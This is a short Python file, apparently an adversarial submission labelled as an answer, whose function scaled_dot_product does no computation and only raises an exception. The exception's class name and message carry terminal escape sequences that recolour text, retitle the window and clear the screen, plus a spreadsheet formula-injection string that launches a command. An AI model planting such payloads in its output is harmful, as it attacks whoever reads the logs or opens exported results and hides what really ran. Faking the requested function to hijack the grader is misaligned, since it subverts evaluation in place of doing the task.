# tries: terminal escapes in exceptions and names
# place: answer


def scaled_dot_product(*args, **kwargs):
    raise type("\x1b[31mTaken\x1b]0;over\x07", (Exception,), {})("\x1b[2J\x1b[H=cmd|' /C calc'!A0")
